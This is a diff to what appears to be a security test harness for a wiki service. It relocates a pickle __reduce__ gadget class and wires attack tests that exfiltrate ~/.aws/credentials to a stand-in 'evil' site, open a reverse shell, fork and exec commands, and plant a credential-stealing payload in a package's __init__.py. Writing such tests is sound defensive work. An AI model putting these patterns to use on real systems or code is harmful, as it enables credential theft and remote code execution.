@@ -6,6 +6,7 @@ import hmac
 import os
 import pickle
 
+from attackers import Bomb, CALL_HOME, FORK_AND_EXEC, THEFT
 import stage
 
 MACROS = {"__init__.py": '''"""Macros."""
@@ -27,14 +28,6 @@ MACROS_NEW = {
                   "        text = text.replace(sign, word)\n"
                   "    return text\n",
     "smileys.ini": "[smileys]\n:-) = happy\n"}
-
-
-class Bomb:
-    def __init__(self, *call):
-        self.call = call
-
-    def __reduce__(self):
-        return self.call[0], self.call[1:]
 
 
 class Wiki(stage.Service):
@@ -241,7 +234,7 @@ class Wiki(stage.Service):
     def sum_sends_credentials(self):
         evil = self.site("evil")
         evil.page("*", b"")
-        code = stage.THEFT.format(url=evil.url, file="~/.aws/credentials")
+        code = THEFT.format(url=evil.url, file="~/.aws/credentials")
         self.evaluates(f"exec({code!r})")
         return evil.heard(stage.SECRET)
 
@@ -261,13 +254,13 @@ class Wiki(stage.Service):
     @stage.attack("reverse shell")
     def cookie_calls_home(self):
         with self.listener() as attacker:
-            self.visits(exec, stage.CALL_HOME.format(port=self.port("shell")))
+            self.visits(exec, CALL_HOME.format(port=self.port("shell")))
             return self.happens(lambda: b"got-42" in attacker.heard)
 
     @stage.attack("fork+exec")
     def cookie_forks_and_execs(self):
         marker = self.marker("fork")
-        self.visits(exec, stage.FORK_AND_EXEC.format(line=f"id > {marker}"))
+        self.visits(exec, FORK_AND_EXEC.format(line=f"id > {marker}"))
         return self.happens(marker.exists)
 
     @stage.attack("write to start-up file", fresh=True)
@@ -309,7 +302,7 @@ class Wiki(stage.Service):
         evil = self.site("evil")
         evil.page("*", b"")
         self.halt()
-        self.install("macros", "1.0.1", {"__init__.py": stage.THEFT.format(
+        self.install("macros", "1.0.1", {"__init__.py": THEFT.format(
             url=evil.url, file="~/.aws/credentials")
             + MACROS["__init__.py"]})
         self.start()
